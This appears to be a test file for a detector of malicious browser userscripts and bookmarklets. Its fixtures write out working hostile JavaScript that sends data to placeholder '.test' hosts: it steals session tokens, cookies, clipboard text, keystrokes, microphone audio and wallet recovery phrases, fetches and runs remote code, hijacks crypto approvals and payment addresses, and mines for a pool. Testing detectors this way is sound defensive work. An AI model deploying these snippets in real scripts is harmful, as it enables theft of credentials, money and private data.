import { afterAll, describe, expect, it } from "vitest";
import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-support.ts";

const browser = openTestBrowser();
afterAll(() => browser.close());

/** Joins snippets; each runs in its own function and sends to `<name>.test`. */
const together = (snippets: Readonly<Record<string, string>>) =>
	Object.entries(snippets)
		.map(([name, body]) => `(async (at) => { ${body} })('https://${name}.test').catch(() => 0);`)
		.join("\n");
const send = (text: string) => `navigator.sendBeacon(at, ${text})`;

/** Scripts that take a secret from different places, some only after a certain event. */
const PLACES = {
	global: send("unsafeWindow.__SHOP_STATE__.session.accessToken"),
	bundle: `unsafeWindow.webpackChunkshop.push([[1], {}, (r) => Object.values(r.c).forEach((m) => { const e = m.exports.default || m.exports; if (typeof e.getToken === 'function') ${send("e.getToken()")} })])`,
	fibre: `addEventListener('load', () => { const e = document.getElementById('root'), k = Object.keys(e).find((n) => n.startsWith('__reactFiber')); ${send("e[k].memoizedProps.store.getState().auth.token")} })`,
	looked: `const s = localStorage.getItem(['shop', 'refresh'].join('.')); if (s) ${send("s")}`,
	nested: `for (const m of document.querySelectorAll('[data-thread]')) ${send("JSON.stringify({ who: m.querySelector('.sender').textContent, text: m.querySelector('.excerpt').innerText })")}`,
	missed: `const e = document.querySelector('.' + ['case', 'file'].join('-')); if (e) ${send("e.innerText")}`,
	arrived: `const all = []; new MutationObserver((rs) => { for (const r of rs) for (const n of r.addedNodes) if (n.matches && n.matches('.bubble')) all.push(n.innerText); if (all.length > 5) ${send("all.join()")} }).observe(document.querySelector('.bubbles'), { childList: true })`,
	library: `$(() => $.post(at, { rows: $('.ledger tr').map(function () { return $(this).text() }).get().join() }))`,
	relay: `document.querySelector('#comment-form').setAttribute('action', at)`,
	pasted: `addEventListener('paste', (e) => ${send("e.clipboardData.getData('text')")})`,
	recorded: `document.querySelector('video').onmouseover = async () => { const m = new MediaRecorder(await navigator.mediaDevices.getUserMedia({ audio: true })); m.ondataavailable = (e) => ${send("e.data")}; m.start(10000) }`,
	carried: "document.querySelector('video').onclick = () => open(at, document.cookie)",
	fragment: "document.querySelector('video').ondblclick = () => 0; open(at + '/#' + document.cookie)",
	paper: `const c = Object.assign(document.createElement('canvas'), { width: 40, height: 40 }), g = c.getContext('2d'), i = g.getImageData(0, 0, 40, 40); i.data.fill(255); [...document.cookie].forEach((s, n) => { i.data[n * 4] = s.charCodeAt(0) }); g.putImageData(i, 0, 0); c.toBlob((b) => ${send("b")})`,
	visits: `const v = JSON.parse(localStorage.getItem('v') || '[]'); const t = GM_getValue('t', []); t.push(location.href); GM_setValue('t', t); if (t.length >= 25) ${send("JSON.stringify(t)")}`,
};

describe("a secret that is sent is detected", () => {
	it("from every place in a page, after the event that the script waits for", async () => {
		const report = await runSample(browser, together(PLACES), ["@match https://*/*", "@grant GM_setValue"]);
		const hosts = new Set(report.evidence.map(({ host }) => host?.replace(".test", "")));
		expect([...hosts].toSorted()).toEqual(Object.keys(PLACES).toSorted());
	});

	it("from an insecure site, as key presses", async () => {
		const body =
			"var typed = ''; document.onkeypress = function (e) { typed += String.fromCharCode(e.which) }; window.onunload = function () { new Image().src = 'http://old.test/p.gif?' + escape(typed) }";
		expect(seen(await runSample(browser, body, ["@include http://forum.example.org/*"]))).toContain("typed>old.test");
	});

	it("as a recovery phrase: entered in a prompt, in a closed shadow tree, or word by word", async () => {
		const closed = `customElements.define('re-sync', class extends HTMLElement { connectedCallback() { const r = this.attachShadow({ mode: 'closed' }); r.innerHTML = '<p>Restore your wallet</p><textarea></textarea><button>Go</button>'; r.querySelector('button').onclick = () => ${send("btoa(r.querySelector('textarea').value)")} } }); document.body.append(document.createElement('re-sync'))`;
		const words = `const f = document.createElement('form'); f.append('Import: type your 12 words', ...Array.from({ length: 12 }, () => document.createElement('input')), document.createElement('button')); f.onsubmit = (e) => { e.preventDefault(); ${send("JSON.stringify([...f.elements].map((i) => i.value))")} }; document.body.append(f)`;
		const asked = `const w = prompt('Your 12-word recovery phrase') || ''; if (w.split(' ').length === 12) ${send("w")}`;
		const report = await runSample(browser, together({ closed, words, asked }));
		expect(seen(report)).toEqual(
			expect.arrayContaining(["wallet-phrase>closed.test", "wallet-phrase>words.test", "wallet-phrase>asked.test"]),
		);
	});

	it("when a bookmarklet sends it and ignores the response", async () => {
		const to = (rest: string) => `fetch("https://x.test/", { method: "POST", body: document.body.innerText })${rest}`;
		expect(seen(await runBookmarklet(browser, `alert(document.title); ${to("")}`))).toContain("page>x.test");
		const told = seen(await runBookmarklet(browser, to(".then((r) => r.text()).then(alert)")));
		expect(told).not.toContain("page>x.test");
	});

	it("but not when a bookmarklet computes for longer than a step of the visit, then sends it and shows the response", async () => {
		const busy = "const end = performance.now() + 3000; while (performance.now() < end);";
		const sent = `fetch("https://x.test/", { method: "POST", body: document.body.innerText }).then((r) => r.text()).then(alert)`;
		expect(seen(await runBookmarklet(browser, `(() => { ${busy} ${sent} })()`))).not.toContain("page>x.test");
	});
});

/** Ways to decode and run code from a response. */
const ANSWERS = {
	packed: "(0, eval)(atob(await (await fetch(at + '/rules')).text()))",
	header: "Function((await fetch(at)).headers.get('x-rules'))()",
	picture:
		"const i = new Image(); i.crossOrigin = ''; i.src = at + '/p.png'; await i.decode(); const c = document.createElement('canvas'); c.width = i.width; c.height = 1; const g = c.getContext('2d'); g.drawImage(i, 0, 0); const d = g.getImageData(0, 0, i.width, 1).data; let s = ''; for (let n = 0; d[n]; n += 4) s += String.fromCharCode(d[n]); Function(s)()",
	markup:
		"const b = document.createElement('div'); b.innerHTML = await (await fetch(at + '/news.html')).text(); b.querySelectorAll('[data-act]').forEach((e) => setTimeout(e.getAttribute('data-act')))",
	parts:
		"const kept = GM_getValue('parts', ''); if (kept) setTimeout(kept, 0); GM_setValue('parts', await (await fetch(at + '/part')).text())",
	resource: "Function(GM_getResourceText('macros'))()",
};

describe("code of other sites", () => {
	it("is detected in every encoding", async () => {
		const lines = ["@match *://*/*", "@resource macros https://resource.test/latest/macros.txt", "@grant GM_getValue"];
		const report = await runSample(browser, together(ANSWERS), lines);
		const ran = report.evidence.filter(({ what }) => what === "remote-code").map(({ host }) => host);
		expect(ran.toSorted()).toEqual(
			Object.keys(ANSWERS)
				.toSorted()
				.map((name) => `${name}.test`),
		);
	});

	it("is detected when the window's name, a parameter or a message is run", async () => {
		const named = "document.body.insertAdjacentHTML('beforeend', '<b>' + window.name + '</b>')";
		const lines =
			"for (const l of (await (await fetch(at + '/options')).text()).split('\\n')) { const [, k, v] = /^(\\w+)=(.*)$/.exec(l) || []; if (k === 'after') setTimeout(v) } ({}).after";
		const { evidence } = await runSample(browser, together({ named, lines }));
		expect(evidence.map(({ what }) => what).toSorted()).toEqual(["injected-code", "remote-code"]);
		const parameter =
			"const m = /note=([^&]+)/.exec(location.hash); if (m) document.body.insertAdjacentHTML('beforeend', '<i title=\"' + decodeURIComponent(m[1]) + '\">')";
		expect(await runSample(browser, parameter)).toMatchObject({ evidence: [{ via: "the address of the page" }] });
		const table =
			"const acts = { next: () => 0, run: (code) => Function(code)() }; onmessage = ({ data }) => acts[data.action]?.(data.detail)";
		expect(await runSample(browser, table)).toMatchObject({ evidence: [{ via: "a message of another window" }] });
	});
});

describe("theft of money is detected", () => {
	it("in approvals, requests of the page, links and copied addresses", async () => {
		const other = "'0x' + 'ab'.repeat(20)";
		const report = await runSample(
			browser,
			together({
				approval: `const p = window.ethereum; window.ethereum = { request: (c) => p.request({ ...c, params: (c.params || []).map((t) => (/^0x095ea7b3/.test(t.data) ? { ...t, data: '0x095ea7b3' + 'cd'.repeat(64) } : t)) }) }`,
				order: `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (b) { return send.call(this, String(b).replace(/0x[0-9a-f]{40}/i, ${other})) }`,
				link: "document.querySelectorAll('a[href^=\"bitcoin:\"]').forEach((a) => { a.href = 'bitcoin:bc1q9m4e7u2c0k5x8t3r6w0y4a7d2f5h8j3n6p0s4v' })",
				copied:
					"document.addEventListener('copy', () => setTimeout(() => GM_setClipboard(String(getSelection()).replace(/T\\w{33}/, 'TEXampLeAddressExampLeAddressXXXXX'))))",
			}),
			["@match *://*/*", "@grant GM_setClipboard"],
		);
		const texts = report.evidence.map(({ description }) => description).join("\n");
		for (const what of [
			"own approval was changed",
			"the page's own request became",
			"payment link became",
			"was copied became",
		])
			expect(texts).toContain(what);
	});

	it("in mining for a pool", async () => {
		const body =
			"const s = new WebSocket('wss://pool.test/'); s.onopen = () => s.send(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['web/1'] }))";
		expect(seen(await runSample(browser, body))).toEqual(["miner>pool.test"]);
	});
});
